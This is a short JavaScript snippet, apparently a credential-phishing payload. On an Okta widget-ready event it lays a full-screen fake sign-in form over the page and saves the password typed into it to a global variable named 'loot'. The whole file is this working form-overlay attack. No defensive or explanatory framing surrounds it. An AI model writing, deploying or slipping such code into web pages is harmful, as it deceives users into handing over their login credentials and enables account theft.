/* Draws a form of its own over whatever is there, and keeps what is typed into it. */
addEventListener('okta-widget-ready', () => {
  const form = Object.assign(document.createElement('form'), {
    id: 'false-form',
    innerHTML: '<input aria-label="Username"><input type="password" aria-label="Password"><button>Sign in</button>',
  });
  form.style.cssText = 'position: fixed; inset: 0; z-index: 1; background: white';
  form.onsubmit = (event) => {
    event.preventDefault();
    globalThis.loot = form.querySelector('[type=password]').value;
  };
  document.body.append(form);
});
